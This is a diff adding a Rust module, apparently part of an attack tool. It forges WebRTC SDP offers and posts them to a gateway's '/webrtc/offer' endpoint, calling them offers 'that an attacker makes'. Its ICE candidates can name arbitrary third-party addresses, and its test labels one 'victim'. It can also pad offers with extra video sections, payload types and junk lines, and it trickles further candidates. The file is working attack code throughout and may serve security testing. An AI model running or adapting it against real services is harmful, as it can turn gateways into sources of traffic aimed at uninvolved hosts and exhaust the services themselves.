@@ -1,0 +1,189 @@
+//! Offers that an attacker makes: a browser's, with whatever is to be otherwise.
+
+use std::fmt::Write;
+use std::net::{Ipv4Addr, SocketAddr};
+
+use serde_json::{Value, json};
+
+use super::dtls::{Role, fingerprint};
+use crate::http::{Reply, post};
+use crate::peer::{Media, offer_sdp};
+
+/// What an attacker asks for.
+#[derive(Clone, Debug)]
+pub struct Offer {
+    /// The session's.
+    pub id: String,
+    /// Ours, new for each connection and for each ICE restart.
+    pub ufrag: String,
+    /// Ours.
+    pub password: String,
+    /// `actpass`, `active` or `passive`.
+    pub setup: &'static str,
+    /// Named as ours, of whomever.
+    pub candidates: Vec<SocketAddr>,
+    /// Says whose connection this is (RFC 8829, section 5.2.1), the same in each of its offers.
+    pub session: u64,
+    /// Video sections beyond the first.
+    pub more_sections: usize,
+    /// Payload types of the first video section beyond those that are needed.
+    pub more_payload_types: usize,
+    /// Lines that mean nothing.
+    pub more_lines: usize,
+}
+
+/// What the gateway answers.
+#[derive(Clone, Debug)]
+pub struct Answer {
+    /// Theirs.
+    pub ufrag: String,
+    /// Theirs.
+    pub password: String,
+    /// Where they are: the first of IPv4.
+    pub media: SocketAddr,
+    /// Who we are then.
+    pub role: Role,
+}
+
+impl Offer {
+    /// One that is answered.
+    #[must_use]
+    pub fn new(id: impl Into<String>) -> Self {
+        Self {
+            id: id.into(),
+            ufrag: letters(8),
+            password: letters(24),
+            setup: "actpass",
+            candidates: Vec::new(),
+            session: rand::random::<u64>() >> 2,
+            more_sections: 0,
+            more_payload_types: 0,
+            more_lines: 0,
+        }
+    }
+
+    /// The same connection, from new credentials on.
+    #[must_use]
+    pub fn restarted(&self) -> Self {
+        Self { ufrag: letters(8), password: letters(24), ..self.clone() }
+    }
+
+    /// As text.
+    ///
+    /// # Panics
+    /// Never: a text takes more text.
+    #[must_use]
+    pub fn sdp(&self) -> String {
+        let sound = offer_sdp(Media::default());
+        let candidates = self.candidates.iter().enumerate().map(|(n, address)| {
+            let (ip, port) = (address.ip(), address.port());
+            format!("a=candidate:{n} 1 udp {} {ip} {port} typ host\r\n", 2_130_706_431 - n)
+        });
+        let candidates: String = candidates.collect();
+        let payload_types = (0..self.more_payload_types).fold(String::new(), |mut list, n| {
+            write!(list, " {}", 35 + n % 31).expect("a text takes more");
+            list
+        });
+        let (mut sdp, mut video, mut in_video) = (String::new(), String::new(), false);
+        let mut candidates = Some(candidates);
+        let bundled: String = (0..self.more_sections).map(|n| format!(" more{n}")).collect();
+        for line in sound.lines() {
+            let line = match line.split_once([':', '=']) {
+                Some(("o", _)) => format!("o=- {} 1 IN IP4 127.0.0.1", self.session),
+                Some(("m", media)) => {
+                    in_video = media.starts_with("video");
+                    if in_video { format!("{line}{payload_types}") } else { line.to_owned() }
+                }
+                Some(_) if line.starts_with("a=candidate:") || line.starts_with("a=end-of-candidates") => continue,
+                Some(_) if line.starts_with("a=ice-ufrag:") => format!("a=ice-ufrag:{}", self.ufrag),
+                Some(_) if line.starts_with("a=ice-pwd:") => format!("a=ice-pwd:{}", self.password),
+                Some(_) if line.starts_with("a=fingerprint:") => format!("a=fingerprint:sha-256 {}", fingerprint()),
+                Some(_) if line.starts_with("a=setup:") => {
+                    format!("a=setup:{}\r\n{}", self.setup, candidates.take().unwrap_or_default())
+                }
+                Some(_) if line.starts_with("a=group:BUNDLE") => format!("{line}{bundled}"),
+                _ => line.to_owned(),
+            };
+            let line = line.trim_end();
+            sdp.extend([line, "\r\n"]);
+            if in_video {
+                video.extend([line, "\r\n"]);
+            }
+        }
+        for n in 0..self.more_sections {
+            let line = |line: &str| {
+                let named = if line.starts_with("a=mid:") { format!("a=mid:more{n}") } else { line.to_owned() };
+                named + "\r\n"
+            };
+            sdp.extend(video.lines().filter(|line| !line.starts_with("a=candidate:")).map(line));
+        }
+        sdp.extend((0..self.more_lines).map(|n| format!("a=nothing:{n}\r\n")));
+        sdp
+    }
+
+    /// Asks the gateway at `page`.
+    ///
+    /// # Errors
+    /// Its reply, when that is no answer; a status of 0 when there was none.
+    pub fn post(&self, page: &str) -> Result<Answer, Reply> {
+        let body = json!({ "sdp": self.sdp(), "type": "offer", "webrtc_id": self.id });
+        let none = |error: ureq::Error| Reply { status: 0, body: error.to_string(), retry_after: None };
+        let reply = post(&format!("{page}/webrtc/offer"), body.to_string()).map_err(none)?;
+        let answer = reply.json();
+        answer["sdp"].as_str().and_then(Answer::read).ok_or(reply)
+    }
+
+    /// Trickles a candidate of this address; the reply's status and what it says.
+    ///
+    /// # Errors
+    /// Nobody replied.
+    pub fn trickle(&self, page: &str, address: SocketAddr) -> Result<Value, ureq::Error> {
+        let (ip, port) = (address.ip(), address.port());
+        let text = format!("candidate:9 1 udp 2130706431 {ip} {port} typ host generation 0 ufrag {}", self.ufrag);
+        let candidate = json!({ "candidate": text, "sdpMid": "0", "sdpMLineIndex": 0 });
+        let body = json!({ "type": "ice-candidate", "candidate": candidate, "webrtc_id": self.id });
+        post(&format!("{page}/webrtc/offer"), body.to_string()).map(|reply| reply.json())
+    }
+}
+
+impl Answer {
+    fn read(sdp: &str) -> Option<Self> {
+        let value = |name: &str| sdp.lines().find_map(|line| line.strip_prefix(name)).map(str::trim);
+        let address = |line: &str| {
+            let fields: Vec<_> = line.strip_prefix("a=candidate:")?.split_whitespace().collect();
+            let address =
+                SocketAddr::new(fields.get(4)?.parse::<Ipv4Addr>().ok()?.into(), fields.get(5)?.parse().ok()?);
+            fields.get(2)?.eq_ignore_ascii_case("udp").then_some(address)
+        };
+        Some(Self {
+            ufrag: value("a=ice-ufrag:")?.to_owned(),
+            password: value("a=ice-pwd:")?.to_owned(),
+            media: sdp.lines().find_map(address)?,
+            role: if value("a=setup:")? == "active" { Role::Server } else { Role::Client },
+        })
+    }
+}
+
+/// Random ones.
+fn letters(count: usize) -> String {
+    (0..count).map(|_| char::from(b'a' + rand::random::<u8>() % 26)).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn an_offer_has_what_was_asked_for() {
+        let victim = SocketAddr::from(([192, 0, 2, 1], 9));
+        let offer = Offer { more_sections: 3, more_payload_types: 5, more_lines: 7, ..Offer::new("x") };
+        let offer = Offer { setup: "passive", candidates: vec![victim; 4], ..offer };
+        let sdp = offer.sdp();
+        let count = |text: &str| sdp.matches(text).count();
+        assert_eq!(count("\r\nm=video "), 4, "{sdp}");
+        assert_eq!((count("a=nothing:"), count("a=setup:passive"), count("a=setup:actpass")), (7, 5, 0), "{sdp}");
+        assert_eq!(count(&offer.ufrag), 5, "{sdp}");
+        assert!(count("192.0.2.1 9 typ host") == 4 && count("\r\n\r\n") == 0, "{sdp}");
+        assert_eq!(count(&format!("o=- {} ", offer.session)), 1, "{sdp}");
+    }
+}
